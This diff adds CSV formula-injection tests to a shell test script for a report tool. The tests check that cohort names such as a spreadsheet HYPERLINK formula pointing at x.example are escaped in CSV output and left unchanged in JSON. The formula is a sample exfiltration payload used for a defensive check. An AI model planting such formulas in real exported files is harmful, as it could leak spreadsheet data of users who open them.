@@ -111,4 +111,17 @@ quietly a lead --csv
 is "nor is --csv any other's" "$code" 2
 quietly a report Nobody
 like "a team that is not here" "$code $err" "^1 .*there is no team 'Nobody' here"
+
+# A name that a spreadsheet would reckon with stands as text there; in JSON it is what it is.
+formula='=HYPERLINK("http://x.example/"&A2;"open")'
+adversary cohort "$formula" 12 247 >/dev/null
+adversary cohort "-1+1" 12 247 >/dev/null
+quietly a report --csv
+is "no name is a formula in the table" "$code $(python3 -c 'import csv, sys
+rows = list(csv.reader(sys.stdin))
+print([cell for row in rows for cell in (row[0], row[3]) if cell[:1] in "=+-@" and not cell.replace(".", "").replace("-", "").isdigit() and cell],
+	sorted({row[0] for row in rows if row[0].startswith(chr(39))}), any(row[2].startswith("missing") and row[3] == chr(39) + sys.argv[1] for row in rows))' "$formula" <<<"$out")" \
+	"0 [] [\"'-1+1\", '\\'=HYPERLINK(\"http://x.example/\"&A2;\"open\")'] True"
+quietly a report --json
+is "and stays as it is for scripts" "$(field 'sorted(team["cohort"] for team in report["cohorts"])[:2]')" "['-1+1', '$formula']"
 finish
